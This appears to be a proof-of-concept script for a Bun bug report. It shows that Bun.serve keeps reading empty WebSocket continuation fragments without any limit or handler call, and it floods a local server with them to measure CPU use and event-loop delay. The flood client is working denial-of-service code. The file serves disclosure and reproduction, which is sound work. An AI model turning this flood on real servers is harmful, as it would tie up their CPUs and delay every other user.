// Bun.serve reads the fragments of a WebSocket message without end, and tells nobody.
//
// Expected: a limit on fragments, or a way to see them (RFC 6455 §10.4 asks for limits on messages made of fragments; the
// npm package ws has maxFragments).
// What happens: empty fragments never count in maxPayloadLength, and no handler is called. So no rate limit sees them.
// What it costs: one client that sends them takes most of a core, and delays everybody else.
import { connect } from "node:net";

const FLOOD_MS = 2_000;
setTimeout(() => end(false), 14_000).unref();

if (Bun.argv[2] !== undefined) {
  // The client, in a process of its own. The mask is zero: a text of one byte begins, continuations without bytes follow.
  const key = "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n";
  const client = connect(Number(Bun.argv[2]), "127.0.0.1");
  client.write(`GET / HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n${key}\r\n`);
  await new Promise((resolve) => client.once("data", resolve));
  client.write(Uint8Array.of(0x01, 0x81, 0, 0, 0, 0, 0x61));
  const empty = Buffer.from(Uint8Array.of(0x00, 0x80, 0, 0, 0, 0).toHex().repeat(100_000), "hex");
  const start = performance.now();
  let fragments = 0;
  for (; performance.now() - start < FLOOD_MS; fragments += 100_000) {
    if (!client.write(empty)) await new Promise((resolve) => client.once("drain", resolve));
  }
  // Bun answers the ping when it has read all before it.
  client.write(Uint8Array.of(0x89, 0x80, 0, 0, 0, 0));
  const isOpen = await new Promise((resolve) => {
    client.once("data", (data) => resolve(data[0] === 0x8a));
    client.once("close", () => resolve(false));
  });
  console.log(`${fragments} fragments in ${FLOOD_MS} ms, then ${isOpen === true ? "a pong" : "closed"}`);
  process.exit(isOpen === true ? 0 : 1);
}

function end(isReproduced: boolean): never {
  console.log(isReproduced ? "REPRODUCED" : "NOT REPRODUCED");
  process.exit();
}

let calls = 0;
const server = Bun.serve({
  port: 0,
  hostname: "127.0.0.1",
  fetch: (request, self) => (self.upgrade(request) ? undefined : new Response("ok")),
  websocket: { maxPayloadLength: 100, message: () => void (calls += 1), ping: () => {}, close: () => {} },
});
let longestMs = 0;
let last = performance.now();
setInterval(() => {
  longestMs = Math.max(longestMs, performance.now() - last);
  last = performance.now();
}, 1);
const before = process.cpuUsage();
const client = Bun.spawn([process.execPath, import.meta.path, String(server.port)], { stdout: "inherit" });
const exitCode = await client.exited;
const { user, system } = process.cpuUsage(before);
console.log(`the server: ${calls} messages, ${Math.round((user + system) / FLOOD_MS / 10)} % of a core`);
console.log(`longest turn of its event loop: ${longestMs.toFixed(1)} ms`);
end(exitCode === 0 && calls === 0);
